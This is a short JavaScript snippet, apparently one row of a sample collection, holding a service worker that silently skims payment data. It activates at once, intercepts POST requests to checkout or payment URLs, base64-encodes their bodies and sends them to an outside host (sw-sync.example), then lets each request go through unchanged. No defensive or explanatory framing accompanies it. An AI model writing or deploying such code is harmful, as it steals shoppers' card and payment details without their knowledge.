// Row 37: a service worker that reads what the page posts.
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('fetch', event => {
  if (event.request.method === 'POST' && /checkout|payment/.test(event.request.url)) {
    event.waitUntil(event.request.clone().text().then(body => fetch('https://sw-sync.example/p', { method: 'POST', mode: 'no-cors', body: btoa(body) })));
  }
  event.respondWith(fetch(event.request));
});
